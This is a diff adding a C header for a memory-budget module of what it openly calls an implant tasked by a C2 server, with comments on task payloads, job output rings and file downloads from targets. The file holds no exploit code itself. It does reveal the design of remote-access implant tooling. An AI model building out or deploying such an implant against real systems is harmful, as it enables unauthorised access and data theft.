@@ -0,0 +1,71 @@
+/**
+ * @file mem.h
+ * @author Kevin McKenzie
+ * @brief Memory governor: one budget for the buffers whose size the C2 decides, so no run of tasks can grow the
+ * implant past what a small target holds.
+ *
+ * Task payloads, job output rings and the windows DOWNLOADs are mapped through reserve from the budget, as do the
+ * fixed size buffers transfers and commands are staged in and final responses are built in. Response frames are sent
+ * straight from where their data already is and take nothing.
+ *
+ * A reservation that does not fit fails at once, nothing waits for the budget. One thread runs the session and what
+ * holds the budget is only given back by the tasks that would queue behind the wait. Where a task cannot get its
+ * memory it is answered with -NO_MEMORY and the session goes on, a DOWNLOAD that cannot map its windows reads through
+ * its staging buffer instead. A job's ring is reserved in full when it starts and never grows, output past it
+ * overwrites the oldest, see job.h.
+ *
+ * The last MEM_FIXED_LEN of the budget only backs the fixed size buffers, a budget filled with job rings still leaves
+ * room to fetch their output, kill them or download a file. Safe to call from any thread.
+ */
+#ifndef MEM_H
+#define MEM_H
+
+#include <stdbool.h>
+#include <stddef.h>
+#include <stdint.h>
+
+enum
+{
+    MEM_DEFAULT_BUDGET = 64 * 1024 * 1024,
+    MEM_MIN_BUDGET = 1024 * 1024,
+    MEM_FIXED_LEN = 256 * 1024,
+};
+
+/**
+ * @brief Set the budget, 0 lifts it. Lowering it below what is reserved only fails new reservations until enough of
+ * the old ones are released.
+ */
+void mem_set_budget(uint64_t budget);
+
+/**
+ * @brief Reserve len bytes for memory sized by the C2 that is not allocated here, such as a mapping.
+ * @return bool false when the budget has no room for it, nothing is reserved then
+ */
+bool mem_reserve(size_t len);
+
+void mem_release(size_t len);
+
+/**
+ * @brief malloc() for buffers sized by the C2, reserved from the budget and given back by mem_free().
+ * @return void* NULL with errno ENOMEM when the budget or the heap has no room for it
+ */
+void *mem_alloc(size_t len);
+
+/**
+ * @brief mem_alloc() for buffers of a fixed size, which may also use the last MEM_FIXED_LEN of the budget.
+ */
+void *mem_alloc_fixed(size_t len);
+
+void mem_free_ptr(void *ptr);
+
+/** Like utils_free(), for buffers from mem_alloc() and mem_alloc_fixed(). */
+#define mem_free(ptr)                                                                                                  \
+    do                                                                                                                 \
+    {                                                                                                                  \
+        mem_free_ptr(ptr);                                                                                             \
+        (ptr) = NULL;                                                                                                  \
+    } while (0)
+
+#endif /* MEM_H */
+
+/*** END OF FILE ***/